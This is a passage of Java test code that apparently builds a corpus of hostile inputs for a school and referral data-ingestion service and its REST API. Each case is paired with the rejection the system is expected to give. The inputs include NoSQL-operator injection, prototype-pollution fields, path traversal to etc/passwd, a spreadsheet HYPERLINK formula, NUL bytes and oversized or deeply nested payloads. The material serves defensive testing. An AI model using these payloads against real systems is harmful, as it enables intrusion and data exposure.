                "\"referralId\":\"[^\"]*\"", "\"referralId\":{\"\\$gt\":\"\"}")), completed(2, 1, "required", "referralId"));
        json("json-deep-nesting", array(referral(r -> r), referral(r -> r), referralJson(r -> r).replaceFirst(
                "\"reason\":", "\"deep\":" + "[".repeat(large ? 1_000_000 : 5_000) + "]".repeat(large ? 1_000_000 : 5_000) + ",\"reason\":")),
                failed(2, 1, "malformed-json", "nesting"));
        json("json-huge-string", array(referral(r -> r), referral(r -> r), referralJson(r -> r).replaceFirst(
                "\"reason\":\"[^\"]*\"", "\"reason\":\"" + "H".repeat(large ? 60 * 1024 * 1024 : 70_000) + "\"")),
                failed(2, 1, "malformed-json", "length"));
        json("json-nul-in-given-name", array(referral(r -> r), referral(r -> r), referralJson(r -> r).replaceFirst(
                "\"givenName\":\"", "\"givenName\":\"\\\\u0000")), completed(2, 1, "encoding", "U+0000"));
        json("json-nul-in-reason", array(referral(r -> r), referralJson(r -> r).replaceFirst(
                "\"reason\":\"", "\"reason\":\"\\\\u0000")), completed(2, 0, "encoding", "U+0000").warned());
        json("json-unknown-fields", array(referral(r -> r), referralJson(r -> r).replaceFirst("\\{",
                "{\"isAdmin\":true,\"__proto__\":{\"x\":1},\"extra\":[1,2,{\"y\":null}],")), completed(2, 0, null));
        json("json-20000-keys", array(referral(r -> r), referralJson(r -> r).replaceFirst("\\{", "{" + keys(20_000) + ",")),
                completed(2, 0, null));
        json("json-duplicate-keys", array(referral(r -> r), referralJson(r -> r).replaceFirst("\\{",
                "{\"toService\":\"no-such-service\",")), completed(2, 0, null));
        json("json-not-json", "ReferralId,FromOrg\nR1,Somewhere\n", failed(0, 0, null, "JSON"));
        json("json-a-number", "42", failed(0, 0, null, "expected a JSON object for each record, found a number"));
        json("json-string-after-records", "[" + referralJson(r -> r) + ",\n" + referralJson(r -> r) + ",\n\"R3\"]",
                failed(2, 1, "malformed-json", "is a string, not a JSON object"));
        json("json-empty-array", "[]", completed(0, 0, "no-records").warned());
        json("json-empty-object", "{}", completed(0, 1, "required", "referralId"));
        json("json-array-of-arrays", "[[1,2],[3]]", failed(0, 0, null, "expected a JSON object"));
        json("json-number-too-long", array(referral(r -> r), referral(r -> r), referralJson(r -> r).replaceFirst(
                "\"dob\":\"[^\"]*\"", "\"dob\":" + "9".repeat(5_000))), failed(2, 1, "malformed-json", "length"));
        json("json-huge-exponent", array(referral(r -> r), referralJson(r -> r).replaceFirst(
                "\"dob\":\"[^\"]*\"", "\"dob\":1e999999999")), completed(1, 1, "date-format", "dob"));
        json("json-nan", array(referral(r -> r), referralJson(r -> r).replaceFirst("\"dob\":\"[^\"]*\"", "\"dob\":NaN")),
                failed(1, 1, "malformed-json", "NaN"));
        json("json-trailing-comma", "[" + referralJson(r -> r) + ",\n" + referralJson(r -> r) + ",\n]", failed(2, 1, "malformed-json", "line"));
        json("json-comments", "[" + referralJson(r -> r) + ",\n/* a comment */ " + referralJson(r -> r) + "]",
                failed(1, 1, "malformed-json", "comment"));
        json("json-single-quotes", "[" + referralJson(r -> r) + ",\n{'referralId':'X'}]", failed(1, 1, "malformed-json", "line 2"));
        cases.add(new Case("json-utf8-bom", "json", REFERRALS_JSON, "json-utf8-bom.json",
                constant(concat(bytes(0xEF, 0xBB, 0xBF), utf8(array(referral(r -> r), referral(r -> r))))), null, Delivery.DROPPED,
                List.of(), completed(2, 0, null)));
        cases.add(new Case("json-utf16le-bom", "json", REFERRALS_JSON, "json-utf16le-bom.json",
                constant(concat(bytes(0xFF, 0xFE), array(referral(r -> r), referral(r -> r)).getBytes(StandardCharsets.UTF_16LE))),
                null, Delivery.DROPPED, List.of(), completed(2, 0, null)));
        cases.add(new Case("json-utf16be-no-bom", "json", REFERRALS_JSON, "json-utf16be-no-bom.json",
                constant(array(referral(r -> r), referral(r -> r)).getBytes(StandardCharsets.UTF_16BE)), null, Delivery.DROPPED,
                List.of(), completed(2, 0, null)));
        cases.add(new Case("json-latin1-byte", "json", REFERRALS_JSON, "json-latin1-byte.json",
                constant(latin1(array(referral(r -> r), referralJson(r -> reason(r, "Mu\u00f1oz family moved"))))), null,
                Delivery.DROPPED, List.of(), failed(1, 1, "malformed-json", "UTF-8")));
        json("json-lines-one-broken", referralJson(r -> r) + "\n" + referralJson(r -> r) + "\n{\"referralId\": ]\n"
                + referralJson(r -> r) + "\n", failed(2, 1, "malformed-json", "line 3"));
        String whole = array(referral(r -> r), referral(r -> r));
        json("json-cut-short", whole.substring(0, whole.lastIndexOf("{\"referralId\"") + 40),
                failed(1, 1, "file-cut-short", "cut short"));
        json("json-dob-1900-and-2100", array(referral(r -> r), referral(r -> dob(r, "2100-01-01")), referral(r -> dob(r, "1899-12-31"))),
                completed(1, 2, "dob-future", "dob"));
    }

    // ---------------------------------------------------------------- POST /api/referrals

    private void referralsApi() {
        String json = "application/json";
        api("api-good-referral", "POST /api/referrals", json, referralJson(r -> r), http(202, 1, null));
        api("api-one-of-three-refused", "POST /api/referrals", json, array(referral(r -> r), referral(r -> r),
                referral(r -> toService(r, "nowhere"))), http(202, 2, null, "toService"));
        api("api-not-json", "POST /api/referrals", json, "referralId=R1&fromOrg=X", http(400, -1, null, "JSON"));
        api("api-xml-as-json", "POST /api/referrals", json, "<referral><referralId>R1</referralId></referral>", http(400, -1, null, "JSON"));
        api("api-empty-body", "POST /api/referrals", json, "", http(400, -1, null, "body"));
        api("api-text-plain", "POST /api/referrals", "text/plain", referralJson(r -> r), http(415, -1, null, "not supported"));
        api("api-xml-content-type", "POST /api/referrals", "application/xml", referralJson(r -> r), http(415, -1, null, "not supported"));
        api("api-form-content-type", "POST /api/referrals", "application/x-www-form-urlencoded", "referralId=R1",
                http(415, -1, null, "not supported"));
        api("api-no-content-type", "POST /api/referrals", null, referralJson(r -> r), http(415, -1, null, "not supported"));
        api("api-put", "PUT /api/referrals", json, referralJson(r -> r), http(405, -1, null, "PUT"));
        api("api-delete", "DELETE /api/referrals", null, null, http(405, -1, null, "DELETE"));
        api("api-patch", "PATCH /api/referrals", json, referralJson(r -> r), http(405, -1, null, "PATCH"));
        cases.add(new Case("api-declared-51mb", "rest", "POST /api/referrals", null, null, json, Delivery.DECLARED_OVERSIZE, List.of(),
                http(413, -1, null, "52428800")));
        cases.add(new Case("api-chunked-51mb", "rest", "POST /api/referrals", null, HostileCorpus::chunkedOversize, json,
                Delivery.CHUNKED_OVERSIZE, List.of(), http(413, -1, null, "52428800")));
        api("api-nul-in-given-name", "POST /api/referrals", json, referralJson(r -> r).replaceFirst("\"givenName\":\"",
                "\"givenName\":\"\\\\u0000"), http(422, 0, "encoding", "U+0000"));
        api("api-nul-in-reason", "POST /api/referrals", json, referralJson(r -> r).replaceFirst("\"reason\":\"",
                "\"reason\":\"\\\\u0000"), http(202, 1, null));
        api("api-unknown-fields", "POST /api/referrals", json, referralJson(r -> r).replaceFirst("\\{",
                "{\"role\":\"ADMIN\",\"__proto__\":{},"), http(202, 1, null));
        api("api-dob-a-number", "POST /api/referrals", json, referralJson(r -> r).replaceFirst("\"dob\":\"[^\"]*\"", "\"dob\":20100101"),
                http(422, 0, "date-format", "dob"));
        api("api-consent-a-string", "POST /api/referrals", json, referralJson(r -> r).replaceFirst("\"given\":(true|false)",
                "\"given\":\"perhaps\""), http(422, 0, "boolean-format", "consent/given"));
        api("api-person-a-string", "POST /api/referrals", json, referralJson(r -> r).replaceFirst("\"person\":\\{[^}]*\\}",
                "\"person\":\"Jo Bloggs\""), http(422, 0, "required", "person/givenName"));
        api("api-deep-nesting", "POST /api/referrals", json, "{\"x\":" + "[".repeat(10_000) + "]".repeat(10_000) + "}", http(400, -1, null, "nesting"));
        api("api-huge-string", "POST /api/referrals", json, referralJson(r -> r).replaceFirst("\"reason\":\"[^\"]*\"",
                "\"reason\":\"" + "H".repeat(100_000) + "\""), http(400, -1, null, "length"));
        api("api-dob-2100", "POST /api/referrals", json, referralJson(r -> dob(r, "2100-01-01")), http(422, 0, "dob-future", "dob"));
        api("api-dob-1899", "POST /api/referrals", json, referralJson(r -> dob(r, "1899-12-31")), http(422, 0, "date-range", "1900"));
        cases.add(new Case("api-utf16-body", "rest", "POST /api/referrals", null,
                constant(referralJson(r -> r).getBytes(StandardCharsets.UTF_16LE)), "application/json; charset=UTF-16LE",
                Delivery.REQUEST, List.of(), http(202, 1, null)));
        cases.add(new Case("api-invalid-utf8", "rest", "POST /api/referrals", null,
                constant(latin1(referralJson(r -> reason(r, "Mu\u00f1oz family")))), json, Delivery.REQUEST, List.of(),
                http(400, -1, null, "UTF-8")));
        api("api-json-null", "POST /api/referrals", json, "null", http(400, -1, null, "JSON"));
        api("api-json-string", "POST /api/referrals", json, "\"referral\"", http(400, -1, null, "JSON object"));
        api("api-empty-object", "POST /api/referrals", json, "{}", http(422, 0, "required", "referralId"));
        api("api-path-traversal", "GET /api/feeds/..%2F..%2Fetc%2Fpasswd/runs", null, null, http(400, -1, null, ""));
        api("api-nul-in-path", "GET /api/feeds/school-census%00/runs", null, null, http(400, -1, null, ""));
        api("api-run-id-not-a-number", "GET /api/feeds/school-census/runs/abc/rejects", null, null, http(400, -1, null, "runId"));
        api("api-limit-too-large", "GET /api/feeds/school-census/runs?limit=99999999999999999999", null, null,
                http(400, -1, null, "limit"));
        api("api-events-not-json", "POST /api/referrals/1/events", json, "{\"state\":", http(400, -1, null, "JSON"));
    }

    // ---------------------------------------------------------------- referral steps (CSV drop)

    private static final String STEPS_HEADER = "FromOrg,ReferralId,State,When,Where,Who,Reason,ActivityCode,StartDate,StillInActivity,Note";

    private void referralSteps() {
        ReferralsJson.Referral a = referral(r -> r);
        ReferralsJson.Referral b = referral(r -> r);
        steps("steps-quote-never-closed", crlf(STEPS_HEADER, List.of(step(a, "ACCEPTED", "fine"),
                "Somewhere,\"NEVER-CLOSED,ACCEPTED,,,,,,,,")), List.of(ReferralsJson.toJson(a)),
                new Expect(Outcome.STEPS_FAILED, 1, 1, null, false, 0, List.of("line 3", "quote"), null));
        steps("steps-hostile-values", crlf(STEPS_HEADER, List.of(step(b, "ACCEPTED", "=HYPERLINK(\"http://example.invalid\")"),
                "Somewhere,NO-SUCH\u0000REF,ACCEPTED,,,,,,,,", "Somewhere,,ACCEPTED,,,,,,,,")),
                List.of(ReferralsJson.toJson(b)),
                new Expect(Outcome.STEPS_DONE, 1, 2, null, false, 0, List.of("recorded", "U+0000", "are needed"), null));
        steps("steps-header-only", crlf(STEPS_HEADER, List.of()), List.of(),
                new Expect(Outcome.STEPS_DONE, 0, 0, null, false, 0, List.of(), null));
        steps("steps-xlsx", concat(bytes('P', 'K', 3, 4), new byte[64]), List.of(),
                new Expect(Outcome.STEPS_FAILED, 0, 1, null, false, 0, List.of("header row has no column FromOrg", "CSV"), null));
    }

    // ---------------------------------------------------------------- helpers

    private void csv(String id, String feed, byte[] bytes, Expect expect) {
        cases.add(new Case(id, "csv", feed, id + ".csv", constant(bytes), null, Delivery.DROPPED, List.of(), expect));
    }

    private void name(String id, String name, byte[] bytes, Expect expect) {
        cases.add(new Case(id, "csv", CENSUS, name, constant(bytes), null, Delivery.DROPPED, List.of(), expect));
    }

    private void xml(String id, String xml, Expect expect) {
        cases.add(new Case(id, "xml", NCCIS, id + ".xml", constant(utf8(xml)), null, Delivery.DROPPED, List.of(), expect));
    }

    private void json(String id, String json, Expect expect) {
        cases.add(new Case(id, "json", REFERRALS_JSON, id + ".json", constant(utf8(json)), null, Delivery.DROPPED, List.of(), expect));
    }

    private void api(String id, String target, String contentType, String body, Expect expect) {
        cases.add(new Case(id, "rest", target, null, body == null ? null : constant(utf8(body)), contentType, Delivery.REQUEST,
                List.of(), expect));
    }

    private void steps(String id, byte[] bytes, List<String> before, Expect expect) {
        cases.add(new Case(id, "steps", STEPS, id + ".csv", constant(bytes), null, Delivery.DROPPED, before, expect));
    }

    private static Supplier<byte[]> constant(byte[] bytes) {
        return () -> bytes;
    }

    private Pupil pupil() {
        return pupils.next();
    }

    private List<String> rows(int n) {
        List<String> rows = new ArrayList<>();
        for (int i = 0; i < n; i++) {
            rows.add(CohortFiles.censusRow(pupil(), CENSUS_DATE));
        }
        return rows;
    }

    /** A census row of a fresh pupil, changed by {@code change} (a row in, a row out). */
    private String censusRow(Function<String, String> change) {
        Pupil p = pupil();
        return change.apply(CohortFiles.censusRow(p, CENSUS_DATE));
    }

    private static String withSurname(String row, String surname) {
        return field(row, 3, surname);
    }

    /** The row with its field {@code index} replaced (quoted as CSV needs); rows here quote nothing but names. */
    private static String field(String row, int index, String value) {
        List<String> fields = split(row);
        String v = value.matches("(?s).*[,\"\r\n].*") ? '"' + value.replace("\"", "\"\"") + '"' : value;
        fields.set(index, v);
        return String.join(",", fields);
    }

    private static String dropColumn(String row, int index) {
        List<String> fields = split(row);
        fields.remove(index);
        return String.join(",", fields);
    }

    /** Splits a generated row (quoted fields hold no quotes of their own). */
    private static List<String> split(String row) {
        List<String> fields = new ArrayList<>();
        StringBuilder f = new StringBuilder();
        boolean quoted = false;
        for (char c : row.toCharArray()) {
            if (c == '"') {
                quoted = !quoted;
                f.append(c);
            } else if (c == ',' && !quoted) {
                fields.add(f.toString());
                f.setLength(0);
            } else {
                f.append(c);
            }
        }
        fields.add(f.toString());
        return fields;
    }

    /** A quote opened at the start of the row's second field and never closed. */
    private static String openQuote(String row) {
        int comma = row.indexOf(',');
        return row.substring(0, comma + 1) + "\"" + row.substring(comma + 1).replace("\"", "");
    }

    private byte[] withRow(String header, int goodRows, String hostileRow) {
        List<String> rows = rows(goodRows);
        rows.add(goodRows / 2, hostileRow);
        return crlf(header, rows);
    }

    private byte[] withRow(String header, int goodRows, byte[] hostileRow) {
        List<String> rows = rows(goodRows);
        return concat(crlf(header, rows.subList(0, 1)), hostileRow, utf8(String.join("\r\n", rows.subList(1, rows.size())) + "\r\n"));
    }

    private static byte[] withRows(String header, List<String> good, List<String> hostile) {
        List<String> rows = new ArrayList<>(good);
        rows.addAll(1, hostile);
        return crlf(header, rows);
    }

    /** A census row whose surname is Latin-1: the byte E9 where UTF-8 wants two. */
    private byte[] latin1Row() {
        String row = withSurname(CohortFiles.censusRow(pupil(), CENSUS_DATE), "Ren\u00e9e");
        return latin1(row + "\r\n");
    }

    /** A row with the marker replaced by raw bytes. */
    private byte[] rowBytes(Function<Pupil, String> surname, String marker, byte[] raw) {
        Pupil p = pupil();
        String row = withSurname(CohortFiles.censusRow(p, CENSUS_DATE), surname.apply(p)) + "\r\n";
        int at = row.indexOf(marker);
        return concat(utf8(row.substring(0, at)), raw, utf8(row.substring(at + marker.length())));
    }

    private static byte[] rowBytesRaw(byte[] row) {
        return row;
    }

    /** The file's last row ends inside a three-byte character. */
    private byte[] rowCutMidCharacter() {
        Pupil p = pupil();
        String row = CohortFiles.censusRow(p, CENSUS_DATE);
        // the first language is the last field but one: the census date after it goes, and the euro sign is cut
        String cut = row.substring(0, row.lastIndexOf(',')) + ",";
        return concat(utf8(cut), bytes(0xE2, 0x82));
    }

    private byte[] wideCensus(int extra) {
        StringBuilder header = new StringBuilder(CohortFiles.CENSUS_HEADER);
        for (int i = 1; i <= extra; i++) {
            header.append(",X").append(i);
        }
        String padding = ",".repeat(extra);
        return crlf(header.toString(), rows(3).stream().map(r -> r + padding).toList());
    }

    private byte[] junkHeader(int columns) {
        StringBuilder header = new StringBuilder("C0");
        for (int i = 1; i < columns; i++) {
            header.append(",C").append(i);
        }
        return crlf(header.toString(), List.of("1,2,3"));
    }

    private String attendanceRow(String possible, String attended) {
        Pupil p = pupil();
        return String.join(",", p.upn(), p.laEstab(), "2026-09-01", "2026-09-30", possible, attended, "0", "0", "");
    }

    private String attendancePeriod(String start, String end) {
        Pupil p = pupil();
        return String.join(",", p.upn(), p.laEstab(), start, end, "38", "36", "0", "0", "");
    }

    private List<String> attendanceRows(int n) {
        List<String> rows = new ArrayList<>();
        for (int i = 0; i < n; i++) {
            rows.add(attendanceRow("38", Integer.toString(30 + i)));
        }
        return rows;
    }

    private YoungPerson person(Predicate<YoungPerson> wanted) {
        while (nextPerson < people.size()) {
            YoungPerson p = people.get(nextPerson++);
            if (wanted.test(p)) {
                return p;
            }
        }
        throw new IllegalStateException("the corpus has used every generated young person");
    }

    private List<String> dwp(int n) {
        List<YoungPerson> claimants = new ArrayList<>();
        for (int i = 0; i < n; i++) {
            claimants.add(person(DwpClaimantsFile::covers));
        }
        return dataRows(file -> new DwpClaimantsFile(YoungPersonCohort.AS_AT, 7303).write(claimants, p -> p, file));
    }

    /** A claimant's row with field {@code index} replaced. */
    private String dwpRow(int index, String value) {
        return field(dwp(1).get(0), index, value);
    }

    private List<String> destinations(int n) {
        List<YoungPerson> leavers = new ArrayList<>();
        for (int i = 0; i < n; i++) {
            leavers.add(person(SchoolDestinationsFile::covers));
        }
        return dataRows(file -> new SchoolDestinationsFile(YoungPersonCohort.AS_AT, 7304).write(leavers, p -> p, file));
    }

    private String destinationRow(int index, String value) {
        return field(destinations(1).get(0), index, value);
    }

    private static List<String> dataRows(java.util.function.Consumer<Path> writer) {
        try {
            Path file = Files.createTempFile("hostile-", ".csv");
            try {
                writer.accept(file);
                List<String> lines = Files.readAllLines(file, StandardCharsets.UTF_8);
                return new ArrayList<>(lines.subList(1, lines.size()));
            } finally {
                Files.deleteIfExists(file);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private String nccis(int n) {
        List<YoungPerson> tracked = new ArrayList<>();
        for (int i = 0; i < n; i++) {
            tracked.add(person(p -> true));
        }
        try {
            Path file = Files.createTempFile("hostile-", ".xml");
            try {
                new NccisXmlFile(YoungPersonCohort.AS_AT, PEOPLE_LA, PEOPLE_LA, 7305).write(tracked, p -> p, file,
                        NccisXmlFile.Options.asSpecified(), List.of());
                return Files.readString(file, StandardCharsets.UTF_8);
            } finally {
                Files.deleteIfExists(file);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The NCCIS file with {@code xml} put inside its {@code n}th record (from 1), before the record's end. */
    private static String insertInRecord(String file, int n, String xml) {
        int at = -1;
        for (int i = 0; i < n; i++) {
            at = file.indexOf("<YoungPersonsRecord>", at + 1);
        }
        int end = file.indexOf("</PersonalDetails>", at);
        return file.substring(0, end) + xml + file.substring(end);
    }

    private static String attributes(int n) {
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < n; i++) {
            sb.append(" a").append(i).append("=\"v\"");
        }
        return sb.toString();
    }

    private static String keys(int n) {
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < n; i++) {
            sb.append(i == 0 ? "" : ",").append("\"k").append(i).append("\":").append(i);
        }
        return sb.toString();
    }

    private ReferralsJson.Referral referral(Function<ReferralsJson.Referral, ReferralsJson.Referral> change) {
        YoungPerson p = person(y -> true);
        ReferralsJson.Referral r = new ReferralsJson(YoungPersonCohort.AS_AT, 7305).referral(p, p);
        // to a service the test directory knows, with consent, so that a good referral is stored
        return change.apply(new ReferralsJson.Referral(r.referralId(), r.fromOrg(), r.fromContact(), "careers-north", r.person(),
                r.reason(), r.type(), r.needs(), new ReferralsJson.Consent(true, r.consent().date(), r.consent().scope()), null,
                r.createdAt()));
    }

    private String referralJson(Function<ReferralsJson.Referral, ReferralsJson.Referral> change) {
        return ReferralsJson.toJson(referral(change));
    }

    private static String array(Object... referrals) {
        StringBuilder sb = new StringBuilder("[");
        for (Object r : referrals) {
            sb.append(sb.length() == 1 ? "\n" : ",\n").append(r instanceof ReferralsJson.Referral ref ? ReferralsJson.toJson(ref) : r);
        }
        return sb.append("\n]\n").toString();
    }

    private static ReferralsJson.Referral reason(ReferralsJson.Referral r, String reason) {
        return new ReferralsJson.Referral(r.referralId(), r.fromOrg(), r.fromContact(), r.toService(), r.person(), reason, r.type(),
                r.needs(), r.consent(), r.lawfulBasis(), r.createdAt());
    }

    private static ReferralsJson.Referral toService(ReferralsJson.Referral r, String service) {
        return new ReferralsJson.Referral(r.referralId(), r.fromOrg(), r.fromContact(), service, r.person(), r.reason(), r.type(),
                r.needs(), r.consent(), r.lawfulBasis(), r.createdAt());
    }

    private static ReferralsJson.Referral dob(ReferralsJson.Referral r, String dob) {
        ReferralsJson.Person p = r.person();
        return new ReferralsJson.Referral(r.referralId(), r.fromOrg(), r.fromContact(), r.toService(),
                new ReferralsJson.Person(p.upn(), p.uln(), p.nino(), p.givenName(), p.familyName(), dob, p.postcode()),
                r.reason(), r.type(), r.needs(), r.consent(), r.lawfulBasis(), r.createdAt());
    }

    private String referralRow(Function<ReferralsJson.Referral, ReferralsJson.Referral> change) {
        ReferralsJson.Referral r = referral(change);
        ReferralsJson.Person p = r.person();
        List<String> fields = Arrays.asList(r.referralId(), r.fromOrg(), r.fromContact(), r.toService(), p.upn(), p.uln(), p.nino(),
                p.givenName(), p.familyName(), p.dob(), p.postcode(), r.reason(), r.type(), String.join(";", r.needs()),
                Boolean.toString(r.consent().given()), r.consent().date(), r.consent().scope(), r.createdAt(), r.lawfulBasis());
        StringBuilder row = new StringBuilder();
        for (int i = 0; i < fields.size(); i++) {
            String s = fields.get(i) == null ? "" : fields.get(i);
            row.append(i == 0 ? "" : ",").append(s.matches("(?s).*[,\"\r\n].*") ? '"' + s.replace("\"", "\"\"") + '"' : s);
        }
        return row.toString();
    }

    private static String step(ReferralsJson.Referral r, String state, String note) {
        String n = note.matches("(?s).*[,\"\r\n].*") ? '"' + note.replace("\"", "\"\"") + '"' : note;
        String org = r.fromOrg().matches("(?s).*[,\"\r\n].*") ? '"' + r.fromOrg().replace("\"", "\"\"") + '"' : r.fromOrg();
        return org + "," + r.referralId() + "," + state + ",,,,,,,," + n;
    }

    /** 51 MB of JSON-looking bytes, more than the API takes. */
    private static byte[] chunkedOversize() {
        byte[] body = new byte[51 * 1024 * 1024];
        Arrays.fill(body, (byte) ' ');
        body[0] = '[';
        return body;
    }

    static byte[] bytes(int... values) {
        byte[] b = new byte[values.length];
        for (int i = 0; i < values.length; i++) {
            b[i] = (byte) values[i];
        }
        return b;
    }

    static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }

    static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    static byte[] latin1(String s) {
        return s.getBytes(StandardCharsets.ISO_8859_1);
    }

    static byte[] crlf(String header, List<String> rows) {
        return joined("\r\n", header, rows);
    }

    static byte[] joined(String lineEnd, String header, List<String> rows) {
        return utf8(header + lineEnd + (rows.isEmpty() ? "" : String.join(lineEnd, rows) + lineEnd));
    }

    static byte[] text(Charset charset, String header, List<String> rows) {
        return (header + "\r\n" + String.join("\r\n", rows) + "\r\n").getBytes(charset);
    }

    static byte[] randomBytes(int n, long seed) {
        byte[] b = new byte[n];
        new java.util.Random(seed).nextBytes(b);
        return b;
    }
}
